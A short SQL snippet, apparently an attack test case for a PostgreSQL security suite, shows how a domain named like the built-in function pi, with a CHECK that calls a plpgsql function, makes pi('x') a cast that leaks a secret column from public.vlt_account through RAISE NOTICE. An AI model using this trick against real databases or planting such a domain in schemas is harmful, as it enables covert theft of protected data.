-- Names a domain like a harmless function: a call with a literal is then a cast to it.
-- wants: read
-- attack:
CREATE FUNCTION f_check(text) RETURNS boolean LANGUAGE plpgsql AS $$BEGIN
  RAISE NOTICE '%', (SELECT secret FROM public.vlt_account WHERE id = 1); RETURN true; END$$;
CREATE DOMAIN pi AS text CHECK (f_check(value));
SELECT pi('x');
